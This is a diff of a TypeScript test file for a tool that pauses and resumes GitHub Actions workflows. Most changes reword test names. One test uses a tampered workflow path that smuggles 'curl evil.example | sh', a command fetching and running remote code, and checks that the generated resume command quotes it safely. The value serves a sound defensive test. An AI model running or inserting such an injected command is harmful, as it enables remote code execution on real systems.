@@ -29,15 +29,12 @@ const CASES = [
   { patterns: [], pauses: [] },
 ];
 
-test.each(CASES)(
-  "$patterns pauses the active ones of that name, and never the one that runs",
-  ({ patterns, pauses }) => {
-    const planned = planPause(WORKFLOWS, { patterns, ownPath: `${FOLDER}/hub-deploy.yml` });
-    expect(planned.map(({ id }) => id)).toEqual(pauses);
-  },
-);
+test.each(CASES)("$patterns pauses matching active workflows except the running one", ({ patterns, pauses }) => {
+  const planned = planPause(WORKFLOWS, { patterns, ownPath: `${FOLDER}/hub-deploy.yml` });
+  expect(planned.map(({ id }) => id)).toEqual(pauses);
+});
 
-test("a record reads back as it was written", () => {
+test("a record survives formatting and parsing", () => {
   const record = {
     repository: "contoso/costs",
     workflows: [{ id: 7, path: `${FOLDER}/hub-ingest.yml` }],
@@ -47,7 +44,7 @@ test("a record reads back as it was written", () => {
   expect(parsePausedRecord(formatPausedRecord(record))).toEqual(record);
 });
 
-test("a record that someone tampered with cannot smuggle a command into the one that people paste", () => {
+test("quotes the paths of a tampered record, so that the printed command runs nothing else", () => {
   const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
   expect(resumeCommands({ repository: "contoso/costs", workflows, run: undefined, since: "" })).toEqual([
     "gh workflow enable --repo contoso/costs -- 'x.yml; curl evil.example | sh'",
@@ -55,13 +52,13 @@ test("a record that someone tampered with cannot smuggle a command into the one 
 });
 
 test.each(["", "{", "[]", "null", '{"repository": "a/b"}', '{"repository": "a/b", "workflows": [{"id": "1; x"}]}'])(
-  "%s is no record, and stops nothing",
+  "ignores the invalid record %s",
   (text) => {
     expect(parsePausedRecord(text)).toBeUndefined();
   },
 );
 
-test("a damaged record is a warning: workflows may still be disabled", async () => {
+test("warns about a damaged record because workflows may still be disabled", async () => {
   const config = memoryStore("config");
   config.put(PAUSED_RECORD, "{");
   const log = {} as LogGroup;
